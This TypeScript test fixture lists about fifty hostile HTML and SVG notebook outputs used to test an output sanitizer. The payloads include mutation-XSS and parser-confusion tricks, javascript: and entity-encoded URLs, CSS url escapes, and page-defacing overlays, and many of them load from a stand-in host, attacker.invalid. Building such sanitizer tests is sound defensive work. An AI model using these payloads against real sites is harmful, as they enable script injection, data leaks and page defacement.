/**
 * Hostile notebook outputs: each tries to run script (alert, a global `__pwned`, a console message), to make a
 * request (to http://attacker.invalid/…), or to deface the page beyond its own area. Used by the sanitizer unit
 * tests and by the browser test, which exports them as a notebook and opens it with the CSP removed.
 */
export interface Payload {
  name: string;
  mime: 'text/html' | 'image/svg+xml';
  value: string;
}

const A = 'http://attacker.invalid';
const JS = 'alert(1);window.__pwned=1;console.log(\'pwned\')';

export const PAYLOADS: readonly Payload[] = [
  // Parser-state tricks: a sanitizer that does not tokenise as the browser does leaves a live <img onerror>.
  { name: 'comment', mime: 'text/html', value: `<!--<img src="--><img src=x onerror="${JS}">-->` },
  { name: 'comment-bogus', mime: 'text/html', value: `<!--><img src=x onerror="${JS}">--><? x ><img src=x onerror="${JS}">` },
  { name: 'noembed', mime: 'text/html', value: `<noembed><img title="</noembed><img src=x onerror='${JS}'>"></noembed>` },
  { name: 'noframes', mime: 'text/html', value: `<noframes><p title="</noframes><img src=x onerror='${JS}'>"></noframes>` },
  { name: 'noscript', mime: 'text/html', value: `<noscript><p title="</noscript><img src=x onerror='${JS}'>"></noscript>` },
  { name: 'xmp', mime: 'text/html', value: `<xmp><p title="</xmp><img src=x onerror='${JS}'>"></xmp>` },
  { name: 'plaintext', mime: 'text/html', value: `<plaintext><img src=x onerror="${JS}">` },
  { name: 'script', mime: 'text/html', value: `<script>${JS}</script><SCRIPT SRC=${A}/s.js></SCRIPT>` },
  { name: 'img-onerror', mime: 'text/html', value: `<img src=x onerror="${JS}"><img src="${A}/img.png">` },
  { name: 'details-ontoggle', mime: 'text/html', value: `<details open ontoggle="${JS}"><summary>s</summary>x</details>` },
  // Mutation XSS through namespace confusion.
  { name: 'mxss-svg-p-style', mime: 'text/html', value: `<svg></p><style><a id="</style><img src=1 onerror='${JS}'>">` },
  { name: 'mxss-math-mglyph', mime: 'text/html', value: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror='${JS}'&gt;">` },
  { name: 'mxss-form-math', mime: 'text/html', value: `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${JS}">` },
  { name: 'svg-style-markup', mime: 'text/html', value: `<svg><style><img src=x onerror="${JS}"></style></svg>` },
  { name: 'svg-title-html', mime: 'text/html', value: `<svg><title><img src=x onerror="${JS}"></title><desc><iframe src="${A}/desc"></iframe></desc></svg>` },
  { name: 'svg-cdata', mime: 'text/html', value: `<svg><![CDATA[</svg><img src=x onerror="${JS}">]]></svg>` },
  { name: 'math-href', mime: 'text/html', value: `<math><maction actiontype="statusline" xlink:href="javascript:${JS}">click</maction><mi href="javascript:${JS}">m</mi></math>` },
  { name: 'template', mime: 'text/html', value: `<template><style></template><img src=x onerror="${JS}"></style></template>` },
  // SVG: animation setting href, external references, handlers, foreignObject.
  { name: 'svg-animate-href', mime: 'text/html', value: `<svg width="100" height="30"><a><animate attributeName="href" values="javascript:${JS}"/><text x="5" y="20">click me</text></a></svg>` },
  { name: 'svg-set-href', mime: 'text/html', value: `<svg width="100" height="30"><a><set attributeName="href" to="javascript:${JS}"/><text x="5" y="20">click me</text></a></svg>` },
  { name: 'svg-set-image-remote', mime: 'image/svg+xml', value: `<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20"><image width="20" height="20" href="data:image/png;base64,iVBORw0KGgo="><set attributeName="href" to="${A}/set.png"/></image></svg>` },
  { name: 'svg-animate-fill-url', mime: 'text/html', value: `<svg width="20" height="20"><rect width="20" height="20"><animate attributeName="fill" values="url(${A}/a.svg#g)" dur="1ms"/></rect></svg>` },
  { name: 'svg-xlink-href', mime: 'image/svg+xml', value: `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:${JS}"><text y="20">x</text></a><use xlink:href="${A}/u.svg#x"/><use href="${A}/u2.svg#x"/></svg>` },
  { name: 'svg-image-remote', mime: 'text/html', value: `<svg><image href="${A}/img.svg"/><image xlink:href="${A}/img2.svg"/><feImage href="${A}/fe.svg"/></svg>` },
  { name: 'svg-onload-script', mime: 'image/svg+xml', value: `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x "y">]><svg xmlns="http://www.w3.org/2000/svg" onload="${JS}"><script>${JS}</script><rect width="5" height="5" onclick="${JS}"/></svg>` },
  { name: 'svg-foreignobject', mime: 'text/html', value: `<svg><foreignObject width="100" height="100"><iframe src="${A}/fo"></iframe><img src=x onerror="${JS}"></foreignObject></svg>` },
  { name: 'svg-presentation-url', mime: 'text/html', value: `<svg width="20" height="20"><rect width="20" height="20" fill="url(${A}/p.svg#g)" filter="url(${A}/f.svg#f)" stroke="\\75rl(${A}/s.svg#s)"/></svg>` },
  // CSS: image-set, escaped @import and url(), quoted url(), page-wide <style>, expression, overlays.
  { name: 'css-image-set', mime: 'text/html', value: `<div style="background-image:image-set('${A}/is.png' 1x);width:10px;height:10px">x</div><div style="background:-webkit-image-set(url(${A}/wis.png) 1x)">y</div>` },
  { name: 'css-escaped-import', mime: 'text/html', value: `<style>@\\69mport "${A}/i.css"; @import url(${A}/j.css);</style><p>t</p>` },
  { name: 'css-quoted-url', mime: 'text/html', value: `<div style='background:url("${A}/q.png");width:10px;height:10px'>x</div>` },
  { name: 'css-escaped-url', mime: 'text/html', value: `<div style="background:\\75rl(${A}/e.png);width:10px;height:10px">x</div><style>p{background:u\\72l(${A}/e2.png)}</style><p>p</p>` },
  { name: 'css-var-url', mime: 'text/html', value: `<div style="--x:url(${A}/v.png);background:var(--x);width:10px;height:10px">x</div>` },
  { name: 'css-font-face', mime: 'text/html', value: `<style>@font-face{font-family:x;src:url(${A}/f.woff)} p{font-family:x}</style><p>font</p>` },
  { name: 'css-expression', mime: 'text/html', value: `<div style="width:expression(${JS});behavior:url(${A}/b.htc);-moz-binding:url(${A}/m.xml#x)">x</div>` },
  { name: 'css-page-wide', mime: 'text/html', value: '<style>body{display:none!important} html{background:red} h1,details,section{visibility:hidden} *{color:red}</style><p>style</p>' },
  { name: 'svg-style-page-wide', mime: 'image/svg+xml', value: '<svg xmlns="http://www.w3.org/2000/svg"><style>body{transform:rotate(180deg)} :root{--fg:red;--bg:black}</style><rect width="4" height="4"/></svg>' },
  { name: 'css-overlay', mime: 'text/html', value: '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:red;z-index:99999">defaced</div><div style="margin-top:-3000px;height:3000px;background:red">up</div>' },
  { name: 'style-breakout', mime: 'text/html', value: `<style>p{color:red}</style><img src=x onerror="${JS}"></style><style>*{}</style>` },
  // Elements that navigate, load or frame.
  { name: 'iframe-srcdoc', mime: 'text/html', value: `<iframe srcdoc="<script>parent.alert(1);parent.__pwned=1</script><img src=${A}/sd.png>"></iframe>` },
  { name: 'base', mime: 'text/html', value: `<base href="${A}/"><a href="x">relative</a><img src="y.png">` },
  { name: 'meta-refresh', mime: 'text/html', value: `<meta http-equiv="refresh" content="0;url=${A}/refresh">` },
  { name: 'form-action', mime: 'text/html', value: `<form action="${A}/f" method="post"><input name="q" value="x"><button>go</button><input type="image" src="${A}/in.png"></form><button form="x" formaction="${A}/fa">b</button>` },
  { name: 'link-import', mime: 'text/html', value: `<link rel="import" href="${A}/imp.html"><link rel="stylesheet" href="${A}/s.css"><link rel="prefetch" href="${A}/pf">` },
  { name: 'srcset', mime: 'text/html', value: `<img srcset="${A}/ss.png 1x, ${A}/ss2.png 2x"><picture><source srcset="${A}/pic.png"><img alt="p"></picture>` },
  { name: 'data-text-html', mime: 'text/html', value: `<a href="data:text/html,<script>alert(1)</script>">x</a><iframe src="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuYWxlcnQoMSk8L3NjcmlwdD4="></iframe><object data="data:text/html,<script>alert(1)</script>"></object><embed src="data:image/svg+xml,<svg onload=alert(1)>">` },
  { name: 'entity-javascript', mime: 'text/html', value: `<a href="&#106;&#97;vascript:${JS}">a</a><a href="jav&#x09;ascript:${JS}">b</a><a href="&#x6A;avascript&colon;${JS}">c</a><a href=" javascript:${JS}">d</a>` },
  { name: 'media', mime: 'text/html', value: `<video poster="${A}/p.png"><source src="${A}/v.mp4"></video><audio src="${A}/a.mp3" autoplay></audio><embed src="${A}/e.swf"><object data="${A}/o"></object>` },
  { name: 'legacy-attrs', mime: 'text/html', value: `<table background="${A}/tb.png"><tr><td background="${A}/td.png">x</td></tr></table><body background="${A}/bd.png"><a href="${A}/" ping="${A}/ping" target="_top">link</a>` },
  { name: 'container-breakout', mime: 'text/html', value: '</div></div></section></body><h1 style="font-size:90px">DEFACED</h1><table><tr><td>open' },
  { name: 'reserved-ids', mime: 'text/html', value: '<p id="cell-1">hijack</p><a href="#cell-1" id="out-1-1">x</a>' },
];
